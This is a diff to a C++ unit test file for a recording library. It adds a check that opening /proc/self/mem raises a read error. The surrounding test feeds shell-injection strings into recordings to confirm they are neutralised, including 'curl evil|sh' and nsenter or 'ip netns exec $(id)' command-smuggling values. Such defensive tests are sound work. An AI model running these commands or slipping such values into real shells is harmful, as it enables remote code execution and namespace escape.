@@ -6,6 +6,7 @@
 
 #include "recording/block_writer.h"
 #include "recording/event_codec.h"
+#include "recording/file_reader.h"
 #include "recording/packed_numbers.h"
 #include "recording/record_json.h"
 #include "recording/segment_file.h"
@@ -407,6 +408,11 @@ TEST_CASE("a recording cannot put a command into people's shells", "[recording]"
          {"curl evil|sh; ", "nsenter -t 1;id -n ", "ip netns exec a id; ", "ip netns exec $(id) ",
           "nsenter --net='/a' id ", "nsenter --net='/a';id;'' ", "\n"})
         CHECK(read_back(wrong) == "# in that network namespace: ");
+}
+
+TEST_CASE("a file that cannot be read is no damaged recording", "[recording]") {
+    // A regular file, whose first page is not mapped.
+    CHECK_THROWS_AS(Recording::open("/proc/self/mem"), ReadError);
 }
 
 TEST_CASE("a file that is not a recording is refused in one line", "[recording]") {
